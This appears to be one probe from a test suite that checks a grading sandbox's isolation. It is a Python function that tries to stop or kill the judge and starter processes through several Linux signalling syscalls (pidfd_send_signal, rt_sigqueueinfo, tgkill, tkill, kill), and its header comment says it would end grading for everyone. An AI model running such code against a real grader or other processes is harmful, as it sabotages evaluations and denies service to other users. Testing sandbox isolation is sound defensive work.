# attack: Kills the judge, with every call that sends a signal.
# hurts: Ends the grading of everybody.
# ends: returns
import os
import signal

from _raw import attempt, call


def attack(target):
    tried = []
    for pid in (target["judge_pid"], target["starter_pid"]):
        process, error = call("pidfd_open", pid, 0)
        tried.append(f"pidfd_open: {error}")
        if not error:
            tried.append(f"pidfd_send_signal: {call('pidfd_send_signal', process, signal.SIGUSR1, None, 0)}")
        information = (signal.SIGUSR1).to_bytes(4, "little") + bytes(4) + (-1 & 0xFFFFFFFF).to_bytes(4, "little") + bytes(116)
        tried.append(f"queue: {call('rt_sigqueueinfo', pid, signal.SIGUSR1, information)}")
        for number in (signal.SIGUSR1, signal.SIGSTOP, signal.SIGKILL):
            tried.append(f"tgkill: {call('tgkill', pid, pid, number)}")
            tried.append(f"tkill: {call('tkill', pid, number)}")
            tried.append(attempt("kill", os.kill, pid, number))
    return tried
